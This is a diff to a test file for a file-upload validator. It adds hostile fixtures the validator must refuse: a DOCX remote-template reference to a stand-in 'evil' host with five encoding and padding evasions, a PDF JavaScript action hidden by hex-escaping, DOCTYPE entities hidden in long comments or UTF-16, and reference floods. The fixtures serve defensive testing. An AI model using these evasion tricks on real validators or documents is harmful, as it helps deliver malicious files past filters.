@@ -1,7 +1,9 @@
 """What may be uploaded is told by name and content together, and what hides something is refused with its reason."""
 
 import io
+import random
 import time
+from collections.abc import Callable
 
 import pytest
 
@@ -51,6 +53,14 @@ def test_no_file_passes_under_the_name_of_another_kind(name: str) -> None:
             file_kind(f"a.{ending}", io.BytesIO(WHOLE[name]))
 
 
+TEMPLATE = b'<Relationship TargetMode="External" Type="http://schemas/relationships/attachedTemplate" Target="http://evil/x.dotm"/>'
+HIDINGS: dict[str, Callable[[bytes], bytes]] = {
+    "far behind": lambda text: b" " * 300_000 + text,
+    "in wide letters": lambda text: text.decode().encode("utf-16"),
+    "with letters as numbers": lambda text: text.replace(b"External", b"Extern&#97;l"),
+    "under a prefix": lambda text: text.replace(b"<Rel", b"<r:Rel"),
+    "behind a bracket": lambda text: text.replace(b" Type", b' Id="a>b" Type'),
+}
 HOSTILE = {
     "an ending that is not on the list": ("page.svg", b"<svg/>", "'.svg', which is not accepted"),
     "no ending": ("README", b"text", "not accepted"),
@@ -71,6 +81,7 @@ HOSTILE = {
     "a photo that says no size": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x02\xff\xd9", "no size"),
     "a container longer than it says": ("a.webp", webp() + b"more", "behind its end"),
     "a paper that runs a script": ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), "active content"),
+    "a paper that hides a script": ("a.pdf", pdf(b"/S /J#61vaScrip#74 /JS (x)"), "active content"),
     "a paper that starts a program": ("a.pdf", pdf(b"/S /Launch"), "active content"),
     "a paper that is an archive": ("a.pdf", pdf() + office(), "not that of a whole PDF|archive as well"),
     "half a paper": ("a.pdf", pdf()[:40], "not that of a whole PDF"),
@@ -90,6 +101,19 @@ HOSTILE = {
                b'Type="http://schemas/relationships/attachedTemplate" Target="http://evil/x.dotm"/>'}),
         "from elsewhere",
     ),
+    "entities behind a long comment": (
+        "a.docx", office("docx", {"word/x.xml": b"<!--" + b"x" * 300_000 + b"--><!DOCTYPE a>"}), "entities",
+    ),
+    "entities in wide letters": ("a.docx", office("docx", {"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}), "entities"),
+    **{
+        f"a template from elsewhere, {how}": (
+            "a.docx", office("docx", {"word/_rels/settings.xml.rels": change(TEMPLATE)}), "from elsewhere",
+        )
+        for how, change in HIDINGS.items()
+    },
+    "a great many references": (
+        "a.docx", office("docx", {"word/_rels/a.xml.rels": b"<Relationship " * 150_000}), "too many other parts",
+    ),
     "two documents in one": ("a.docx", office("docx", {"xl/workbook.xml": b"x"}), "not that of a DOCX"),
     "something before the archive": ("a.xlsx", b"#!/bin/sh\n" + office(), "before or behind"),
     "something behind the archive": ("a.xlsx", office() + b"<script>", "before or behind"),
@@ -101,6 +125,15 @@ def test_what_hides_something_is_refused_with_its_reason(what: str) -> None:
     name, content, reason = HOSTILE[what]
     with pytest.raises(FileRefused, match=reason):
         file_kind(name, io.BytesIO(content))
+
+
+def test_what_is_written_to_take_long_is_looked_at_soon() -> None:
+    begin = time.process_time()
+    rels = {f"word/_rels/{n}.xml.rels": b"<Relationship " * 18_000 for n in range(4)}
+    file_kind("a.docx", io.BytesIO(office("docx", rels | {"word/media/a.png": random.Random(1).randbytes(60_000)})))
+    with pytest.raises(FileRefused, match="no size"):
+        file_kind("a.jpg", io.BytesIO(b"\xff\xd8" + b"\xff" * 5_000_000 + b"\xff\xd9"))
+    assert time.process_time() - begin < 1
 
 
 def test_a_bomb_is_refused_by_what_it_unpacks_to_and_soon() -> None:
